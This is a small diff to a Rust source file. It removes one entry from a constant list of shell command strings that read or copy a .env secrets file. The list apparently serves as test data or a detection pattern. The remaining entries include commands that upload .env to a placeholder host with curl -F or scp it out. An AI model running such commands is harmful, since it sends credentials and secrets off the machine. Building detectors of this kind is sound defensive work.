@@ -22,7 +22,6 @@ const NAMING: &[&str] = &[
     "curl -F f=@.env h",
     "curl file:///w/p/.env",
     "openssl enc -in .env",
-    "gcc -include.env x",
     "m4 -I.env",
     "scp .env h:x",
     "scp h:.env x",
